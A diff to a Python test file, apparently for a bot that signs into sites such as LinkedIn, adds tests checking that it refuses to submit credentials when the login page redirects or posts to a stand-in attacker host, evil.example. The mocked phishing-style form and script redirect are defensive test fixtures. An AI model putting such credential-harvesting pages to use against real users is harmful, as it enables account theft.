@@ -9,7 +9,7 @@ from typing import Any, ClassVar
 import pytest
 from pydantic import SecretStr
 
-from optout_bot.errors import LoginFailed
+from optout_bot.errors import ForeignHost, LoginFailed
 from optout_bot.flowspec import SiteSpec
 from optout_bot.identity import Hosts, cookie_alive, split_identity, user_agent_for, with_identity
 from optout_bot.loader import load_catalog
@@ -262,4 +262,54 @@ def test_an_app_that_answers_a_wrong_password_in_place_fails_after_one_click(ses
     with pytest.raises(LoginFailed):
         signin.clear(page)
     assert page.evaluate("window.__clicks") == 1
+    page.context.close()
+
+
+# --- a page that would carry the password elsewhere -----------------------------------------------
+
+FORM_TO = """<!DOCTYPE html><html><body><form method="post" action="%s">
+<label for="u">Email or phone</label><input id="u" name="session_key" autocomplete="username">
+<label for="p">Password</label><input id="p" name="session_password" type="password">
+<button type="submit">Sign in</button></form>
+<script>document.addEventListener('input', () => fetch('/typed', {method: 'POST'}));</script></body></html>"""
+
+
+def _foreign(session: Any, linkedin_body: str) -> tuple[Any, list[str]]:
+    context = session.new_context()
+    seen: list[str] = []
+
+    def linkedin(route: Any) -> None:
+        seen.append(f"{route.request.method} {route.request.url}")
+        route.fulfill(status=200, headers={"content-type": "text/html"}, body=linkedin_body)
+
+    def evil(route: Any) -> None:
+        seen.append(f"{route.request.method} {route.request.url}")
+        body = FORM_TO % "/checkpoint/lg/login-submit"
+        route.fulfill(status=200, headers={"content-type": "text/html"}, body=body)
+
+    context.route("https://www.linkedin.com/**", linkedin)
+    context.route("https://evil.example/**", evil)
+    return context.new_page(), seen
+
+
+def test_a_sign_in_page_moved_to_another_host_by_a_script_gets_nothing(session: Any) -> None:
+    page, seen = _foreign(session, "<script>location.replace('https://evil.example/login')</script>")
+    page.goto("https://www.linkedin.com/login")
+    page.wait_for_url("https://evil.example/**")
+    signin = SignIn(load_catalog().site("linkedin"), SignInPolicy(Creds(), True), 3_000)
+    with pytest.raises(ForeignHost, match="evil.example"):
+        signin.clear(page)
+    assert not [s for s in seen if s.startswith("POST")]
+    assert signin.submitted is False
+    page.context.close()
+
+
+def test_a_sign_in_form_posting_to_another_host_gets_nothing(session: Any) -> None:
+    page, seen = _foreign(session, FORM_TO % "https://evil.example/checkpoint/lg/login-submit")
+    page.goto("https://www.linkedin.com/login")
+    signin = SignIn(load_catalog().site("linkedin"), SignInPolicy(Creds(), True), 3_000)
+    with pytest.raises(ForeignHost, match="another site"):
+        signin.clear(page)
+    assert page.input_value("#p") == ""
+    assert not [s for s in seen if s.startswith("POST")]
     page.context.close()
